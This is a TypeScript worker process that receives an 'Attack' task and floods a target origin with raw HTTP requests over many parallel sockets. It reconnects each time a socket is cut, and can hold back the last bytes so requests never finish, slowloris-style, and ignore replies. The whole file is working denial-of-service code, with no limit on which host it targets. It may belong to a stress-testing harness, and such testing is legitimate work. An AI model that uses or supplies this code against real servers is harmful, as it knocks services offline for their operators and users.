// One who does the worst: a process of its own, which does one thing again and again until it is ended.
import { connect } from 'node:net';

/** One request, sent again by so many senders as soon as it is answered, or never finished. */
export type Attack = {
  origin: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Uint8Array;
  senders: number;
  /** So many of its last bytes are kept back: it never ends. */
  keptBack?: number;
  /** The answer is not read. */
  isDeaf?: boolean;
};

/** How long a sender rests whose connection was cut, in milliseconds. */
const restMs = 50;

const bytesOf = ({ origin, method, path, headers, body }: Attack): Uint8Array => {
  const all = {
    Host: new URL(origin).host,
    Connection: 'close',
    ...headers,
    ...(body ? { 'Content-Length': `${body.length}` } : {}),
  };
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`);
  const head = `${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`;
  return body ? Buffer.concat([Buffer.from(head), body]) : Buffer.from(head);
};

/** Asks on one connection after the other: the server may cut whichever it likes. */
const attack = (task: Attack, bytes: Uint8Array): void => {
  const { hostname, port } = new URL(task.origin);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.once('close', () => setTimeout(() => attack(task, bytes), restMs));
  socket.once('connect', () => socket.write(bytes));
  if (task.isDeaf) socket.pause();
  else socket.resume();
};

process.on('message', (task: Attack) => {
  const all = bytesOf(task);
  const sent = all.subarray(0, all.length - (task.keptBack ?? 0));
  for (let sender = 0; sender < task.senders; sender += 1) attack(task, sent);
});
process.on('disconnect', () => process.exit());
process.send?.('ready');
